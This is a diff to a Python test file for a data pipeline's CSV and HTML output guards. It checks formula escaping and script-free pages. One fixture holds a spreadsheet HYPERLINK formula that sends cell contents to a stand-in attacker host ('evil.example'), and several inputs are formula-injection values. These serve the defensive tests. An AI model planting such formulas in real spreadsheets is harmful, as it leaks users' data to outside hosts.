@@ -11,7 +11,7 @@ import pytest
 
 from pipeline.run import extract_folder
 from pipeline.safe import csv_cell, html_text, html_url
-from pipeline.write import LIST, SCHEMAS, STR
+from pipeline.schema import TABLES
 
 TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Отчёт")'
 HOSTILE = (
@@ -42,21 +42,31 @@ def hostile_run(tmp_path_factory):
 
 @pytest.mark.parametrize(
     ("value", "cell"),
-    [("=1+1", "'=1+1"), ("+7 727", "'+7 727"), ("-2", "'-2"), ("@SUM", "'@SUM"), ("\tx", "'\tx"), ("a=b", "a=b"),
-     (-74.0, -74.0), (3, 3), (None, ""), (["=a", "b"], "'=a | b"), ("Министр", "Министр")],
+    [("=1+1", "'=1+1"), ("+7 727", "'+7 727"), ("-2", "'-2"), ("@SUM", "'@SUM"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+     ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'), ("-Минус", "'-Минус"), ("a=b", "a=b"),
+     ("Бишкек = столица", "Бишкек = столица"), (-74.0, -74.0), (3, 3), (None, ""), (["=a", "b"], "'=a | b"),
+     (["loc-1", None, "org-2"], "loc-1 |  | org-2"), ("Министр", "Министр")],
 )  # fmt: skip
 def test_csv_cells(value, cell):
+    """The one guard of every CSV cell: no formula, lists joined, no literal None in a list."""
     assert csv_cell(value) == cell
 
 
 def test_no_text_cell_of_any_csv_begins_a_formula(hostile_run):
-    for name, fields in SCHEMAS.items():
-        with open(hostile_run / f"{name}.csv", encoding="utf-8", newline="") as f:
+    for name, table in TABLES.items():
+        with open(hostile_run / f"{name}.csv", encoding="utf-8-sig", newline="") as f:
             rows = list(csv.reader(f))
-        texts = [i for i, (_, kind) in enumerate(fields) if kind in (STR, LIST)]  # numbers may be negative
+        assert rows[0] == table.columns
+        texts = [
+            i for i, f in enumerate(table.fields) if f.type in ("string", "list")
+        ]  # numbers may be negative
         for row in rows[1:]:
             for i in texts:
-                assert not row[i].startswith(("=", "+", "-", "@", "\t", "\r")), (name, fields[i][0], row[i])
+                assert not row[i].startswith(("=", "+", "-", "@", "\t", "\r")), (
+                    name,
+                    table.columns[i],
+                    row[i],
+                )
     articles = pd.read_parquet(hostile_run / "articles.parquet").set_index("record")
     assert articles.loc["=1+1", "title"] == TITLE  # Parquet keeps the value as it is
 
@@ -67,16 +77,26 @@ class _Page(HTMLParser):
     def __init__(self) -> None:
         super().__init__()
         self.scripts, self.handlers, self.script_urls, self.text = 0, [], [], []
+        self.in_script, self.script_texts = False, []
 
     def handle_starttag(self, tag, attrs):
         self.scripts += tag == "script"
+        self.in_script = tag == "script"
+        if self.in_script:
+            self.script_texts.append("")
         self.handlers += [name for name, _ in attrs if name.startswith("on")]
         self.script_urls += [
-            v for _, v in attrs if v and v.strip().lower().startswith(("javascript:", "data:"))
+            (tag, v) for _, v in attrs if v and v.strip().lower().startswith(("javascript:", "data:"))
         ]
 
+    def handle_endtag(self, tag):
+        self.in_script = self.in_script and tag != "script"
+
     def handle_data(self, data):
-        self.text.append(data)
+        if self.in_script:
+            self.script_texts[-1] += data
+        else:
+            self.text.append(data)
 
 
 def test_article_text_in_a_page_renders_as_text(hostile_run):
